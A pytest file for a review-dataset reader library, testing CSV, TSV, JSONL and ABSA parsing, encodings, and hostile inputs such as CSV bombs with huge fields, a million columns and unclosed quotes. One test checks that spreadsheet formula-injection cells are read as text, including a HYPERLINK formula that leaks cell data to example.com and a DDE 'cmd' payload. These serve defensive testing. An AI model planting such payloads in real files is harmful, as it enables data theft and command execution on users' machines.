"""CSV, TSV and JSONL files of labeled sentences, aspect JSONL, ABSA text and word/tag files, on fixtures in real shapes.

Also the hostile and huge cases: a CSV bomb (one enormous field, a million columns, a quote never closed,
a line with no end), other encodings, and a big CSV described in bounded memory.
"""

from __future__ import annotations

import tracemalloc
from pathlib import Path

import pytest

from seqcore.readers import (
    DataFormatError,
    ReadOptions,
    describe_file,
    guess_columns,
    read_absa_txt,
    read_aspect_jsonl,
    read_jsonl,
    read_labeled_tsv,
    read_semeval,
    read_table,
    read_word_tags,
    sniff_kind,
)
from seqcore.readers.table import MAX_COLUMNS, MAX_FIELD_CHARS
from seqcore.tokens import tokenize

FIXTURES = Path(__file__).resolve().parents[1] / "fixtures"
TEXT_LABEL = FIXTURES / "reviews_text_label.tsv"
HEADER_CSV = FIXTURES / "reviews_header.csv"
MIXED_JSONL = FIXTURES / "reviews_mixed_labels.jsonl"
ASPECTS_JSONL = FIXTURES / "aspects.jsonl"
ABSA_TXT = FIXTURES / "absa_pytorch.txt"
WORD_TAGS = FIXTURES / "word_tags.txt"


@pytest.mark.parametrize(
    "path,kind",
    [
        (TEXT_LABEL, "labeled_tsv"),
        (HEADER_CSV, "csv"),
        (MIXED_JSONL, "jsonl"),
        (ASPECTS_JSONL, "jsonl"),
        (ABSA_TXT, "absa_txt"),
        (WORD_TAGS, "word_tags"),
        (FIXTURES / "labeled.tsv", "labeled_tsv"),
        (FIXTURES / "mini.conllu", "conllu"),
    ],
)
def test_each_fixture_sniffs_as_its_kind(path, kind):
    assert sniff_kind(path) == kind
    assert sniff_kind(path.read_bytes(), name="upload") == kind  # by content, without the file's name


# --------------------------------------------------------------------------- tables


def test_text_tab_label_reads_the_right_label_column():
    found = read_table(TEXT_LABEL)
    assert found.columns is not None and (found.columns.text, found.columns.label, found.columns.how) == ("1", "2", "by content")
    assert not found.columns.header and found.kind == "labeled_tsv"
    assert len(found.records) == 30 and {r.label for r in found.records} == {"0", "1"}
    assert found.records[0].text == "The pasta was perfectly cooked and the sauce was rich." and found.records[0].label == "1"
    assert found.problems == [] and found.notes == []


def test_both_column_orders_read_alike():
    flipped = "".join(f"{label}\t{text}\n" for text, label in (line.split("\t") for line in TEXT_LABEL.read_text().splitlines()))
    a, b = read_table(TEXT_LABEL), read_table(flipped.encode(), "flipped.tsv")
    assert [(r.text, r.label) for r in a.records] == [(r.text, r.label) for r in b.records]
    assert b.columns is not None and (b.columns.text, b.columns.label) == ("2", "1")


def test_a_csv_with_header_bom_crlf_quotes_and_newlines():
    found = read_table(HEADER_CSV)
    assert found.columns is not None and (found.columns.text, found.columns.label, found.columns.how) == (
        "review",
        "sentiment",
        "by name",
    )
    assert found.columns.names == ("id", "review", "sentiment", "stars")  # the BOM is not part of "id"
    texts = {r.text: r.label for r in found.records}
    assert len(found.records) == 35
    assert texts["Lovely terrace, great view of the harbour at sunset."] == "positive"  # a quoted comma
    assert texts['She said "never again", and she meant it.'] == "negative"  # doubled quotes
    assert texts["Two visits:\nthe first was great,\nthe second even better."] == "positive"  # CRLF inside: LF kept
    # Formula-like cells are read as the characters they hold.
    assert texts['=HYPERLINK("http://example.com/?leak="&A1,"click")'] == "negative"
    assert "+cmd| /C calc!A0" in texts and "@SUM(1+1) was the total they charged" in texts
    # The empty text is on physical line 39: the quoted newlines above count as lines.
    assert [(p.line, p.message) for p in found.problems] == [(39, "line has an empty text; it was skipped.")]
    assert found.label_map[" positive"] == "positive" and len(found.notes) == 1


def test_columns_given_by_name_or_number_and_refused_when_absent():
    by_name = read_table(HEADER_CSV, options=ReadOptions(text_column="review", label_column="stars"))
    assert (
        by_name.columns is not None and by_name.columns.how == "given" and {r.label for r in by_name.records} == {"1", "2", "5"}
    )
    by_number = read_table(TEXT_LABEL, options=ReadOptions(text_column="1", label_column="2"))
    assert [r.label for r in by_number.records] == [r.label for r in read_table(TEXT_LABEL).records]
    with pytest.raises(
        DataFormatError, match=r"there is no label column 'score'; the columns are 'id', 'review', 'sentiment', 'stars'"
    ):
        read_table(HEADER_CSV, options=ReadOptions(label_column="score"))


def test_an_ambiguous_file_names_its_columns_and_the_flags():
    with pytest.raises(DataFormatError) as err:
        read_table(b"positive\tgood\nnegative\tbad\n", "two.tsv")
    message = str(err.value)
    assert message.startswith("two.tsv: cannot tell which column is the text and which the label")
    assert "are 1, 2" in message and "--text-column" in message and "--label-column" in message
    guess = guess_columns(b"positive\tgood\nnegative\tbad\n", "two.tsv", "labeled_tsv")
    assert guess.names == ("1", "2") and guess.text is None and guess.reason == message


def test_a_header_without_known_names_is_told_by_content():
    rows = ["comment;score"] + [
        f"{w} food here today;{i % 2}" for i, w in enumerate(["great", "awful", "fine", "cold", "lovely", "bad"])
    ]
    found = read_table("\n".join(rows).encode(), "semi.txt")
    assert (
        found.columns is not None and found.columns.header and (found.columns.text, found.columns.label) == ("comment", "score")
    )
    assert len(found.records) == 6


def test_the_old_label_tab_text_reader_still_reads_and_reports():
    records, problems = read_labeled_tsv(FIXTURES / "labeled.tsv")
    assert [r.label for r in records] == ["positive", "negative", "positive"]
    assert [p.line for p in problems] == [4, 5, 7]


def test_labels_with_a_decimal_point_are_read_as_integers():
    found = read_table(b"text,label\nnice food,1.0\nbad food,0\nok food,1\n", "x.csv")
    assert [r.label for r in found.records] == ["1", "0", "1"] and found.label_map["1.0"] == "1"


# --------------------------------------------------------------------------- JSONL


def test_jsonl_with_mixed_label_types():
    found = read_jsonl(MIXED_JSONL)
    assert len(found.records) == 30 and {r.label for r in found.records} == {"0", "1"}
    assert found.label_map == {"1": "1", '"0"': "0", "1.0": "1", "0": "0", '"1"': "1", "0.0": "0"}
    assert [(p.line, p.message.split(" (")[0]) for p in found.problems] == [
        (6, "line is not JSON"),
        (10, "line has no label under 'label'; it was skipped."),
        (13, "line holds a JSON list, not an object; it was skipped."),
    ]
    assert found.notes == ['labels are written both as numbers and as strings: 1, 1.0 and "1" were read as one label.']


def test_jsonl_keys_given_or_refused():
    data = b'{"sentence": "fine food", "y": "pos", "lang": "en"}\n{"sentence": "cold soup", "y": "neg", "lang": "en"}\n'
    found = read_jsonl(data, "x.jsonl", ReadOptions(text_column="sentence", label_column="y"))
    assert [r.label for r in found.records] == ["pos", "neg"]
    with pytest.raises(DataFormatError, match=r"there is no label key 'label'; the keys are 'sentence', 'y', 'lang'"):
        read_jsonl(data, "x.jsonl", ReadOptions(label_column="label"))


def test_aspect_jsonl_checks_offsets_as_the_xml_reader_does():
    review = read_aspect_jsonl(ASPECTS_JSONL)
    assert review.format == "jsonl" and len(review.sentences) == 8
    first = review.sentences[0]
    assert [(t.term, t.polarity, t.start, t.end, t.token_span) for t in first.targets] == [
        ("pasta", "positive", 4, 9, (1, 2)),
        ("service", "negative", 28, 35, (6, 7)),
    ]
    assert review.sentences[4].targets[0].polarity == "neutral"  # "Neutral" as written
    messages = [(p.sentence_id, p.message) for p in review.problems]
    assert messages == [
        ("#3", "target 'wine' has offsets 0-3, which cover 'The', and the term occurs 2 times in the text; it was skipped."),
        ("#4", "target 'waiter' has offsets 0-10, which cover 'Our waiter'; repaired to 4-10, where the term occurs once."),
        ("#4", "aspect term 'bread' has polarity 'bad', not one of positive, negative, neutral, conflict; it was skipped."),
    ]
    # The same offset message as SemEval XML gives for the same mistake.
    xml = read_semeval(
        b'<sentences><sentence id="4"><text>Our waiter forgot the bread.</text><aspectTerms>'
        b'<aspectTerm term="waiter" polarity="negative" from="0" to="10"/></aspectTerms></sentence></sentences>'
    )
    assert xml.problems[0].message == messages[1][1]
    assert review.notes == [
        "8 sentences have no id; numbered #N by position in the file.",
        "1 aspect term has no offsets; placed where the term occurs once in its text.",
    ]


def test_absa_text_joins_the_triples_of_a_sentence():
    review = read_absa_txt(ABSA_TXT)
    assert [s.text for s in review.sentences] == [
        "The pasta was great but the service was slow .",
        "Friendly staff and a cosy room .",
        "Prices are fair .",
        "Decent burger , average fries .",
    ]
    first = review.sentences[0]
    assert [(t.term, t.polarity, first.tokens[t.token_span[0]]) for t in first.targets if t.token_span] == [
        ("pasta", "positive", "pasta"),
        ("service", "negative", "service"),
    ]
    assert review.sentences[2].targets[0].polarity == "neutral"
    assert [p.line for p in review.problems] == [16, 19, 22] and "$T$" in review.problems[0].message


def test_word_tag_lines_with_a_blank_line_between_sentences():
    sentences, problems = read_word_tags(WORD_TAGS)
    assert [s.words for s in sentences] == [
        ["The", "pasta", "was", "great", "."],
        ["Service", "was", "slow", "."],
        ["Prices", "are", "fair"],
    ]
    assert sentences[0].tags == ["DET", "NOUN", "AUX", "ADJ", "PUNCT"]
    assert [(p.line, p.message) for p in problems] == [(16, "line has 3 fields, not a word and a tag; the sentence was skipped.")]


# --------------------------------------------------------------------------- encodings


def test_other_encodings_are_refused_unless_named():
    data = "text,label\nCafé crème was lovely,1\nNaïve service,0\n".encode("cp1252")
    with pytest.raises(DataFormatError, match=r"^x\.csv is not UTF-8 text \(byte 0xe9 at line 2, offset 14\); .*--encoding"):
        read_table(data, "x.csv")
    found = read_table(data, "x.csv", ReadOptions(encoding="cp1252"))
    assert found.records[0].text == "Café crème was lovely"
    wide = "text\tlabel\nCafé crème was lovely\t1\nNaïve service\t0\n".encode("utf-16")
    with pytest.raises(DataFormatError, match=r"UTF-16 or UTF-32 text .*--encoding utf-16"):
        read_table(wide, "x.tsv")
    assert read_table(wide, "x.tsv", ReadOptions(encoding="utf-16")).records[1].text == "Naïve service"
    assert describe_file(wide, "x.tsv", options=ReadOptions(encoding="utf-16"))["sentences"] == 2
    with pytest.raises(DataFormatError, match="unknown encoding 'klingon'"):
        read_table(data, "x.csv", ReadOptions(encoding="klingon"))


# --------------------------------------------------------------------------- hostile and huge


def test_one_enormous_field_is_refused_with_its_line():
    data = b"text,label\nfine,1\n" + b'"' + b"x" * (MAX_FIELD_CHARS + 10) + b'",0\n'
    with pytest.raises(DataFormatError, match=r"^bomb\.csv: the row starting at line 3 has a field over 1,048,576 characters"):
        read_table(data, "bomb.csv")


def test_a_million_columns_are_refused():
    data = b"text,label\nfine food,1\nbad food,0\n" + b"," * 1_000_000 + b"\n"
    with pytest.raises(DataFormatError, match=rf"^wide\.csv: line 4 has 1,000,001 columns, over the limit of {MAX_COLUMNS:,}"):
        read_table(data, "wide.csv")
    with pytest.raises(DataFormatError, match="1,000,001 columns"):
        read_table(b"," * 1_000_000 + b"\n", "wide.csv")  # on the very first line, while the delimiter is sniffed


def test_an_unterminated_quote_is_refused_naming_where_it_opened():
    data = b'text,label\nfine food,1\n"this quote never ends,0\nmore,1\nand more,0\n'
    with pytest.raises(DataFormatError, match=r"^q\.csv: a quote opened in the row starting at line 3 is never closed"):
        read_table(data, "q.csv")
    long = b'text,label\nfine food,1\n"never closed,0\n' + b"another line of a review,1\n" * 60_000
    with pytest.raises(
        DataFormatError, match=r"the row starting at line 3 has a field over .*a quote opened there may never be closed"
    ):
        read_table(long, "q.csv")


def test_a_line_with_no_end_is_refused_before_it_is_held(tmp_path):
    path = tmp_path / "one_line.csv"
    with path.open("wb") as f:
        f.write(b"text,label\n")
        for _ in range(130):
            f.write(b"x" * 65536)
    with pytest.raises(DataFormatError, match=r"^one_line\.csv: line 2 is over 8,388,608 characters long with no line break"):
        read_table(path)


def peak_bytes(fn, *args, **kwargs) -> tuple[object, int]:
    tokenize("warm up the tokenizer first")
    tracemalloc.start()
    try:
        return fn(*args, **kwargs), tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


def test_a_big_csv_is_described_in_bounded_memory(tmp_path):
    path = tmp_path / "big.csv"
    row = 'id,review,label\n{i},"A long, long review of the place, number {i}, with ""quotes"" in it and more words",{l}\n'
    with path.open("w", encoding="utf-8") as f:
        f.write("id,review,label\n")
        for i in range(80_000):
            f.write(row.split("\n")[1].format(i=i, l=("pos", "neg", "neutral")[i % 3]) + "\n")
    size = path.stat().st_size
    assert size > 7_500_000
    info, peak = peak_bytes(describe_file, path)
    assert info["sentences"] == 80_000 and info["labels"] == {"pos": 26_667, "neg": 26_667, "neutral": 26_666}
    assert peak < 3_000_000, f"describing a {size:,}-byte CSV peaked at {peak:,} bytes"


def test_describe_gives_kind_sentences_labels_problems_and_notes_for_every_format():
    for path, kind, sentences, labels in [
        (TEXT_LABEL, "labeled_tsv", 30, {"1": 15, "0": 15}),
        (HEADER_CSV, "csv", 35, {"negative": 19, "positive": 16}),
        (MIXED_JSONL, "jsonl", 30, {"1": 15, "0": 15}),
        (ASPECTS_JSONL, "jsonl", 8, {"positive": 5, "negative": 4, "neutral": 2}),
        (ABSA_TXT, "absa_txt", 4, {"positive": 4, "negative": 1, "neutral": 1}),
        (WORD_TAGS, "word_tags", 3, {"NOUN": 3, "AUX": 3, "ADJ": 3, "PUNCT": 2, "DET": 1}),
    ]:
        info = describe_file(path)
        assert (info["kind"], info["sentences"], info["labels"]) == (kind, sentences, labels), path.name
        assert isinstance(info["problems"], list) and isinstance(info.get("notes", []), list)


def test_a_row_wider_than_the_file_is_skipped_not_cut():
    found = read_table(b"text,label\nfine food,1\nnot good, just dull,0\ncold soup,0\n", "x.csv")
    assert [r.text for r in found.records] == ["fine food", "cold soup"]
    assert [(p.line, p.message) for p in found.problems] == [
        (3, "line has 3 columns, but the file has 2 (an unquoted delimiter in a field?); it was skipped.")
    ]


def test_a_search_corpus_needs_no_label_column():
    one = read_table(b"text\nThe soup was cold\nLovely view\n", "one.csv", need_label=False)
    assert [r.text for r in one.records] == ["The soup was cold", "Lovely view"] and one.columns is not None
    assert one.columns.label is None
    ids = read_table(
        b"id,review\n" + b"".join(b"%d,review number %d of the corpus\n" % (i, i) for i in range(12)), "ids.csv", need_label=False
    )
    assert ids.columns is not None and (ids.columns.text, ids.columns.label) == ("review", None) and len(ids.records) == 12
    with pytest.raises(DataFormatError, match="no column has few distinct short values"):
        read_table(b"id,review\n" + b"".join(b"%d,review number %d of the corpus\n" % (i, i) for i in range(12)), "ids.csv")
